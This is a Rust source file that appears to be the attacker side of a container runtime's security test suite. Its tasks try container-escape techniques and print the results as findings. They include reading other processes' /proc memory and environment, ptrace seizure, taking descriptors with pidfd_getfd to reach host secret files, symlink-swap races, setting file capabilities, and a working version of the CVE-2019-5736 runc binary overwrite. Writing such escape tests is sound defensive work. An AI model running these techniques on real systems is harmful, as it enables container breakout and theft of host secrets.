//! The attacker's side: what is done inside, by a process of the container. Findings are lines that begin with `@`.

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::{Duration, Instant};

use rustix::fs::{Mode, OFlags};
use rustix::io::Errno;

/// What an attacker waits for at most.
const PATIENCE: Duration = Duration::from_secs(30);

fn tell(text: impl std::fmt::Display) {
    // The harness has written the name of the test without a line feed.
    let mut out = std::io::stdout().lock();
    writeln!(out, "\n@ {text}").unwrap();
}

/// Does the task: its name, then its arguments.
pub(crate) fn run(task: &str) {
    let words: Vec<&str> = task.split(' ').collect();
    match words.as_slice() {
        ["look-at-newcomer", rest @ ..] => look_at_newcomer(rest.first().copied()),
        ["overwrite-stdin"] => overwrite("/proc/self/fd/0"),
        ["overwrite-exe-of-others"] => overwrite_exe_of_others(),
        ["give-capability", path] => {
            // Version 2, CAP_NET_RAW inheritable, effective at once.
            let value = [0x0200_0001_u32, 0, 1 << 13, 0, 0].map(u32::to_le_bytes).concat();
            let flags = rustix::fs::XattrFlags::empty();
            tell(format!(
                "given {}",
                name(rustix::fs::setxattr(*path, "security.capability", &value, flags))
            ));
        }
        ["read-key"] => tell(format!("key {}", name(read_key()))),
        ["swap", one, other] => swap(one, other),
        ["replace", dir, to] => replace(dir, to),
        other => panic!("no such task: {other:?}"),
    }
}

const KEY: &std::ffi::CStr = c"stockade-test-key";
const KEY_SPEC_SESSION_KEYRING: nix::libc::c_long = -3;

fn errno(ret: nix::libc::c_long) -> Result<nix::libc::c_long, Errno> {
    if ret >= 0 { Ok(ret) } else { Err(Errno::from_io_error(&std::io::Error::last_os_error()).unwrap()) }
}

/// Gives this process a session keyring with a secret in it.
pub(crate) fn store_key() {
    use nix::libc;
    const JOIN_SESSION_KEYRING: libc::c_long = 1;
    // SAFETY: no name; a type, a description and a payload of the length given.
    let key = unsafe {
        errno(libc::syscall(libc::SYS_keyctl, JOIN_SESSION_KEYRING, 0)).unwrap();
        libc::syscall(
            libc::SYS_add_key,
            c"user".as_ptr(),
            KEY.as_ptr(),
            c"x".as_ptr(),
            1,
            KEY_SPEC_SESSION_KEYRING,
        )
    };
    errno(key).unwrap();
}

/// Looks for that secret in the session keyring, and reads it.
fn read_key() -> Result<(), Errno> {
    use nix::libc;
    const SEARCH: libc::c_long = 10;
    const READ: libc::c_long = 11;
    let mut buf = [0_u8; 8];
    // SAFETY: a type and a description; a live buffer of the length given.
    unsafe {
        let kind = c"user".as_ptr();
        let key = libc::syscall(libc::SYS_keyctl, SEARCH, KEY_SPEC_SESSION_KEYRING, kind, KEY.as_ptr(), 0);
        let key = errno(key)?;
        errno(libc::syscall(libc::SYS_keyctl, READ, key, buf.as_mut_ptr(), buf.len())).map(drop)
    }
}

/// Puts a link to `to` in the place of a directory, and the directory back, over and over; both may come and go.
fn replace(dir: &str, to: &str) {
    let kept = format!("{to}-kept-{}", std::process::id());
    let end = Instant::now() + Duration::from_secs(120);
    while Instant::now() < end {
        if fs::rename(dir, &kept).is_ok() {
            let _ = std::os::unix::fs::symlink(to, dir);
            let _ = fs::remove_file(dir);
            let _ = fs::rename(&kept, dir);
            let _ = fs::remove_dir_all(&kept);
        }
    }
}

/// Swaps two names for as long as it lives.
fn swap(one: &str, other: &str) {
    use rustix::fs::{CWD, RenameFlags, renameat_with};
    loop {
        renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE).unwrap();
    }
}

fn name(result: Result<(), Errno>) -> String {
    match result {
        Ok(()) => "yes".to_owned(),
        Err(Errno::ACCESS) => "EACCES".to_owned(),
        Err(Errno::PERM) => "EPERM".to_owned(),
        Err(e) => e.to_string(),
    }
}

fn pids() -> Vec<u32> {
    let names = fs::read_dir("/proc").unwrap().filter_map(|e| e.ok()?.file_name().into_string().ok());
    names.filter_map(|n| n.parse().ok()).collect()
}

/// Waits for a process that was not there, and tries all that is to be had of it: its memory, its descriptors, and
/// through them the host's files.
fn look_at_newcomer(secret: Option<&str>) {
    let known = pids();
    tell("ready");
    let end = Instant::now() + PATIENCE;
    let pid = loop {
        assert!(Instant::now() < end, "nobody came");
        if let Some(pid) = pids().into_iter().find(|pid| !known.contains(pid)) {
            break pid;
        }
    };
    // It is a process of its own a moment before it stands still.
    std::thread::sleep(Duration::from_millis(200));
    let open =
        |file: &str, flags| rustix::fs::open(format!("/proc/{pid}/{file}"), flags, Mode::empty()).map(drop);
    for file in ["maps", "mem", "environ", "exe", "cwd", "root"] {
        tell(format!("{file} {}", name(open(file, OFlags::RDONLY))));
    }
    tell(format!("ns {}", name(open("ns/mnt", OFlags::RDONLY))));
    let listed = fs::read_dir(format!("/proc/{pid}/fd"));
    tell(format!("fd {}", if listed.is_ok() { "yes" } else { "no" }));
    tell(format!("trace {}", name(trace(pid))));
    for number in 0..16 {
        let taken = take_descriptor(pid, number);
        let (Ok(taken), Some(secret)) = (taken, secret) else { continue };
        for up in 0..12 {
            let path = format!("./{}{secret}", "../".repeat(up));
            let file = rustix::fs::openat(&taken, path, OFlags::RDONLY, Mode::empty());
            if let Ok(text) = file.map(|f| std::io::read_to_string(File::from(f)).unwrap()) {
                tell(format!("secret {text}"));
                return;
            }
        }
    }
}

/// A copy of another process's descriptor (`pidfd_getfd(2)`), which takes the right to trace it.
fn take_descriptor(pid: u32, number: i32) -> Result<OwnedFd, Errno> {
    let pid = rustix::process::Pid::from_raw(pid.cast_signed()).unwrap();
    let process = rustix::process::pidfd_open(pid, rustix::process::PidfdFlags::empty())?;
    rustix::process::pidfd_getfd(process, number, rustix::process::PidfdGetfdFlags::empty())
}

fn trace(pid: u32) -> Result<(), Errno> {
    let pid = nix::libc::pid_t::try_from(pid).unwrap();
    // SAFETY: plain numbers; PTRACE_SEIZE does not stop the process.
    let ret = unsafe { nix::libc::ptrace(nix::libc::PTRACE_SEIZE, pid, 0, 0) };
    if ret == 0 { Ok(()) } else { Err(Errno::from_io_error(&std::io::Error::last_os_error()).unwrap()) }
}

/// Tries all ways to change what is behind a link in procfs: the file of a program that is not its own.
fn overwrite(link: &str) {
    let seen = fs::read_link(link).unwrap();
    tell(format!("target {}", seen.display()));
    let end = Instant::now() + Duration::from_secs(5);
    let writable = loop {
        let opened = OpenOptions::new().write(true).open(link);
        match opened {
            // It is being executed: later, then.
            Err(e) if e.raw_os_error() == Some(nix::libc::ETXTBSY) && Instant::now() < end => {
                std::thread::sleep(Duration::from_millis(10));
            }
            other => break other,
        }
    };
    match writable {
        Err(e) => tell(format!("open {e}")),
        Ok(mut file) => {
            let wrote = file.write_all(b"overwritten").is_ok();
            let cut = file.set_len(4).is_ok();
            tell(format!("write {wrote} truncate {cut} seals {:?}", rustix::fs::fcntl_get_seals(&file)));
        }
    }
    let opened = File::open(link).unwrap();
    let mode = rustix::fs::fchmod(&opened, Mode::from_raw_mode(0o600));
    let again = format!("/proc/self/fd/{}", opened.as_raw_fd());
    let truncated = OpenOptions::new().write(true).truncate(true).open(again).is_ok();
    tell(format!("again {truncated} chmod {}", name(mode)));
}

/// The heart of CVE-2019-5736: hold the program that somebody else executes here, wait for its end, and write to it.
fn overwrite_exe_of_others() {
    let own = fs::read_link("/proc/self/exe").unwrap();
    let known: Vec<_> = pids();
    tell("ready");
    let end = Instant::now() + PATIENCE;
    while Instant::now() < end && !fs::exists("/stop").unwrap() {
        for pid in pids().into_iter().filter(|pid| !known.contains(pid)) {
            let link = format!("/proc/{pid}/exe");
            let Ok(held) = rustix::fs::open(&link, OFlags::PATH, Mode::empty()) else { continue };
            let held = format!("/proc/self/fd/{}", held.as_raw_fd());
            let Ok(target) = fs::read_link(&held) else { continue };
            // A busybox of its own is nothing.
            if target == own || target.ends_with("busybox") {
                continue;
            }
            overwrite(&held);
            return;
        }
    }
    tell("nothing to hold");
}
